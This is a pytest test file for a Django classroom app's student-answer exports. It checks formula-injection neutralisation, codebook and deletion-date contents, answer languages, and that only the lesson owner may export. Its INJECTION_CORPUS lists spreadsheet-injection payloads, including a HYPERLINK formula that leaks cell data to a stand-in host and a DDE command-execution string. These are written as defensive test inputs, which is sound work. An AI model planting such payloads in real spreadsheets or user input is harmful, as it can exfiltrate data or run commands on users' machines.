"""Exports: one row per student and question in CSV, XLSX (with a codebook) and JSON; formula
injection neutralised; the deletion date stated; only the lesson's own teacher may export."""

import csv
import io
import json

import pytest
from django.test import Client
from django.utils import translation
from openpyxl import load_workbook

from classroom import debriefing
from debrief import exports, services
from debrief.models import Answer
from games.engines.base import ENGINES
from games.selectors import game_state
from tests.classroom.factories import join, make_lesson, make_teacher
from tests.debrief.factories import opened_lesson

pytestmark = pytest.mark.django_db

# Text that a spreadsheet could run: formulas, DDE, and the characters that start them.
INJECTION_CORPUS = [
    "=1+1",
    "=HYPERLINK(\"http://example.invalid/?leak=\"&A1,\"click\")",
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "- a list\n- of points",
]
HARMLESS = ["Hello", "1+1=2", "A replication - with new data", "'quoted already"]


def teacher_client(user, language="en"):
    client = Client()
    client.force_login(user)
    client.cookies["language"] = language
    return client


def corpus_lesson(language="en"):
    """A lesson whose students answered the question with every corpus entry."""
    teacher = make_teacher()
    lesson = make_lesson(owner=teacher, language=language)
    students = [join(lesson, f"Student {n}")[0] for n in range(len(INJECTION_CORPUS) + 1)]
    debriefing.lesson_debrief_open(lesson)
    question = lesson.debrief_questions.order_by("position").first()
    for student, text in zip(students, [*INJECTION_CORPUS, *HARMLESS], strict=False):
        services.answer_save_draft(student, question.pk, text)
    return teacher, lesson


def neutralised(text):
    """How a corpus answer comes out of a spreadsheet export: as stored, with an apostrophe."""
    return "'" + services.clean_answer(text)


# The neutraliser ---------------------------------------------------------------------------------


@pytest.mark.parametrize("text", INJECTION_CORPUS)
def test_neutralise_cell_prefixes_every_formula_start(text):
    assert exports.neutralise_cell(text) == "'" + text


@pytest.mark.parametrize("value", [*HARMLESS, 3, -1, None, ""])
def test_neutralise_cell_leaves_other_values_alone(value):
    """Numbers stay numbers (a VP of -1 is data, not a formula)."""
    assert exports.neutralise_cell(value) == value


# CSV ---------------------------------------------------------------------------------------------


def read_csv(response, delimiter):
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(body[1:]), delimiter=delimiter))


def test_csv_streams_one_row_per_student_and_question_with_every_column():
    """The header is the codebook's columns; 3 students × 5 questions = 15 rows."""
    lesson, joined, games = opened_lesson(students=3, seeds=(5,))
    teacher = lesson.owner
    response = teacher_client(teacher).get(f"/lessons/{lesson.pk}/debrief/export.csv")
    assert response.status_code == 200 and response.streaming
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = read_csv(response, ",")
    assert list(rows[0]) == exports.column_ids([lesson])
    assert len(rows) == 15
    assert {row["question_number"] for row in rows} == {"1", "2", "3", "4", "5"}
    assert {row["delete_after"] for row in rows} == {f"{lesson.delete_after.astimezone():%Y-%m-%d}"}


@pytest.mark.asyncio
@pytest.mark.django_db(transaction=True)
async def test_csv_streams_in_pieces_under_asgi(async_client):
    """Under the ASGI server the CSV is an asynchronous stream sent in pieces, not a whole file
    built in memory first."""
    from channels.db import database_sync_to_async

    def big_lesson():
        lesson = make_lesson(owner=make_teacher())
        for n in range(40):
            join(lesson, f"Pupil {n}")
        debriefing.lesson_debrief_open(lesson)
        return lesson

    lesson = await database_sync_to_async(big_lesson)()
    owner = await database_sync_to_async(lambda: lesson.owner)()
    await async_client.aforce_login(owner)
    async_client.cookies["language"] = "en"
    response = await async_client.get(f"/lessons/{lesson.pk}/debrief/export.csv")
    assert response.streaming
    pieces = [piece async for piece in response.streaming_content]
    assert len(pieces) >= 2
    body = b"".join(pieces).decode("utf-8")
    assert body.count("\r\n") == 1 + 40 * 5


def test_an_unknown_format_is_not_found():
    lesson, _joined, _games = opened_lesson(students=1, seeds=(5,))
    assert teacher_client(lesson.owner).get(
        f"/lessons/{lesson.pk}/debrief/export.pdf").status_code == 404


def test_export_rows_carry_the_game_figures_of_each_seat():
    """VP, rank, replications, bridges, EP from the final state; accepted stories from the
    StoryAccepted events; the facts shown on the tablet."""
    lesson, joined, games = opened_lesson(students=3, seeds=(5,))
    game = games[0]
    engine = ENGINES[game.engine_key]
    state = engine.state_from_json(game_state(game))
    outcome = {row["seat"]: row for row in engine.outcome(state)["players"]}
    view = {p["seat"]: p for p in engine.view_for(state, None)["players"]}
    accepted = {}
    for action in game.actions.all():
        for event in action.events:
            if event["type"] == "StoryAccepted":
                accepted[event["seat"]] = accepted.get(event["seat"], 0) + 1
    rows = list(exports.lesson_rows(lesson))
    for row in rows:
        seat = row["seat"]
        assert row["score"] == outcome[seat]["vp"] and row["rank"] == outcome[seat]["rank"]
        assert row["replications"] == view[seat]["replications"]
        assert row["bridges"] == len(view[seat]["bridges"]) and row["ep"] == view[seat]["ep"]
        assert row["accepted_stories"] == accepted.get(seat, 0)
        assert row["game_over"] is True and row["table"] == 1
        answer = Answer.objects.get(student_id=row["student_id"],
                                    question__position=row["question_number"] - 1)
        assert row["facts"] == answer.facts
    assert sum(row["accepted_stories"] for row in rows) > 0


def test_csv_injection_corpus_is_neutralised_and_reads_back():
    """Every corpus answer comes back with a leading apostrophe; harmless text unchanged."""
    teacher, lesson = corpus_lesson()
    rows = read_csv(teacher_client(teacher).get(f"/lessons/{lesson.pk}/debrief/export.csv"), ",")
    answers = [row["answer"] for row in rows if row["question_number"] == "1"]
    for text in INJECTION_CORPUS:
        assert neutralised(text) in answers
    assert HARMLESS[0] in answers
    assert not [a for a in answers if a.lstrip()[:1] in "=+-@＝"]
    names = {row["pseudonym"] for row in rows}
    assert "Student 1" in names


def test_finnish_csv_uses_semicolons_for_finnish_spreadsheets():
    """A Finnish teacher's CSV opens in columns in a Finnish spreadsheet."""
    lesson, _joined, _games = opened_lesson(students=2, seeds=(5,))
    client = teacher_client(lesson.owner, "fi")
    rows = read_csv(client.get(f"/lessons/{lesson.pk}/debrief/export.csv"), ";")
    assert list(rows[0]) == exports.column_ids([lesson]) and len(rows) == 10


# XLSX --------------------------------------------------------------------------------------------


def load_xlsx(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    return load_workbook(io.BytesIO(response.content))


def test_xlsx_injection_corpus_is_text_not_formula():
    """Read back with openpyxl: no cell is a formula; corpus answers carry the apostrophe."""
    teacher, lesson = corpus_lesson()
    book = load_xlsx(teacher_client(teacher).get(f"/lessons/{lesson.pk}/debrief/export.xlsx"))
    sheet = book["Answers"]
    header = [cell.value for cell in sheet[1]]
    assert header == exports.column_ids([lesson])
    column = header.index("answer")
    answers = [row[column] for row in sheet.iter_rows(min_row=2)]
    for cell in answers:
        assert cell.data_type != "f"
    values = [cell.value for cell in answers if cell.value]
    for text in INJECTION_CORPUS:
        assert neutralised(text) in values
    assert "Hello" in values
    for row in sheet.iter_rows(min_row=1):
        for cell in row:
            assert cell.data_type != "f"


def test_xlsx_codebook_explains_every_column_and_about_states_the_deletion_date():
    """The Codebook sheet has one row per column with a meaning; About says when the data goes."""
    lesson, _joined, _games = opened_lesson(students=2, seeds=(5,))
    book = load_xlsx(teacher_client(lesson.owner).get(
        f"/lessons/{lesson.pk}/debrief/export.xlsx"))
    assert book.sheetnames == ["Answers", "Codebook", "About"]
    header = [cell.value for cell in book["Answers"][1]]
    codebook = [[cell.value for cell in row] for row in book["Codebook"].iter_rows(min_row=2)]
    assert [row[0] for row in codebook] == header
    assert all(row[1] and len(row[2]) > 10 for row in codebook)
    about = {row[0].value: row[1].value for row in book["About"].iter_rows()}
    assert about["Data deleted on"] == f"{lesson.delete_after.astimezone():%Y-%m-%d}"
    numbers = [row[header.index("score")].value for row in book["Answers"].iter_rows(min_row=2)]
    assert all(isinstance(value, int) for value in numbers)
    assert book["Answers"].max_row == 1 + 2 * 5


def test_xlsx_codebook_speaks_the_teachers_language():
    """A Finnish teacher's codebook and sheet names are Finnish; the column ids stay the same."""
    lesson, _joined, _games = opened_lesson(students=2, seeds=(5,))
    client = teacher_client(lesson.owner, "fi")
    with translation.override("fi"):
        expected = [str(meaning) for _c, _l, meaning in exports.columns([lesson])]
    book = load_xlsx(client.get(f"/lessons/{lesson.pk}/debrief/export.xlsx"))
    answers, codebook, _about = book.worksheets
    assert [cell.value for cell in answers[1]] == exports.column_ids([lesson])
    assert [row[2].value for row in codebook.iter_rows(min_row=2)] == expected
    assert codebook.title != "Codebook"


# JSON --------------------------------------------------------------------------------------------


def test_json_keeps_answers_exactly_and_has_the_codebook_and_deletion_date():
    """JSON is data, not a spreadsheet: text as typed, facts as lists, booleans as booleans."""
    teacher, lesson = corpus_lesson()
    response = teacher_client(teacher).get(f"/lessons/{lesson.pk}/debrief/export.json")
    document = json.loads(response.content)
    assert document["format"] == exports.FORMAT_VERSION
    assert set(document["codebook"]) == set(exports.column_ids([lesson]))
    assert document["lessons"][0]["delete_after"] == f"{lesson.delete_after.astimezone():%Y-%m-%d}"
    answers = {row["answer"] for row in document["rows"]}
    assert "=1+1" in answers and "\n=1+1" in answers
    assert all(isinstance(row["starred"], bool) and isinstance(row["facts"], list)
               for row in document["rows"])


# Who may export --------------------------------------------------------------------------------


@pytest.mark.parametrize("format", ["csv", "xlsx", "json"])
def test_teacher_b_cannot_export_teacher_as_lesson(format):
    """Another teacher's lesson is a 404 and no data leaves; signed out is sent to sign in."""
    lesson, _joined, _games = opened_lesson(students=2, seeds=(5,))
    response = teacher_client(make_teacher()).get(f"/lessons/{lesson.pk}/debrief/export.{format}")
    assert response.status_code == 404
    assert b"Student" not in response.content
    anonymous = Client().get(f"/lessons/{lesson.pk}/debrief/export.{format}")
    assert anonymous.status_code == 302 and "/accounts/login/" in anonymous["Location"]


# The language of each answer ---------------------------------------------------------------------


def test_each_answer_is_exported_with_the_language_its_tablet_showed_in_every_format():
    """A Swedish lesson: one student writes on an English tablet, one on a Finnish tablet, one in
    the lesson's Swedish, one writes nothing; CSV, XLSX and JSON carry fi, sv, en or blank in
    `answer_language`, and a Finnish codebook names the column in Finnish."""
    from classroom import services as classroom

    teacher = make_teacher()
    lesson = make_lesson(owner=teacher, language="sv")
    written = {}
    for name, language in (("Ada", "en"), ("Bea", "fi"), ("Cai", ""), ("Dan", "en")):
        student = join(lesson, name)[0]
        classroom.student_set_language(student, language)
        written[name] = language or "sv"
    written["Dan"] = ""  # writes nothing
    debriefing.lesson_debrief_open(lesson)
    question = lesson.debrief_questions.order_by("position").first()
    for student in lesson.students.exclude(pseudonym="Dan"):
        services.answer_save_draft(student, question.pk, f"{student.pseudonym} answers")
    assert Answer.objects.get(student__pseudonym="Bea", question=question).language == "fi"
    client = teacher_client(teacher, "fi")
    url = f"/lessons/{lesson.pk}/debrief/export"
    rows = [row for row in read_csv(client.get(f"{url}.csv"), ";")
            if row["question_number"] == "1"]
    assert {row["pseudonym"]: row["answer_language"] for row in rows} == written
    sheet = load_xlsx(client.get(f"{url}.xlsx"))["Vastaukset"]
    header = [cell.value for cell in sheet[1]]
    cells = {row[header.index("pseudonym")].value: row[header.index("answer_language")].value
             for row in sheet.iter_rows(min_row=2)
             if row[header.index("question_number")].value == 1}
    assert {name: value or "" for name, value in cells.items()} == written
    document = json.loads(client.get(f"{url}.json").content)
    assert {row["pseudonym"]: row["answer_language"] for row in document["rows"]
            if row["question_number"] == 1} == written
    labels = {column: label for column, label, _meaning in _codebook_in("fi", lesson)}
    assert labels["answer_language"] == "Vastauksen kieli"


def _codebook_in(language, lesson):
    with translation.override(language):
        return exports.codebook([lesson])
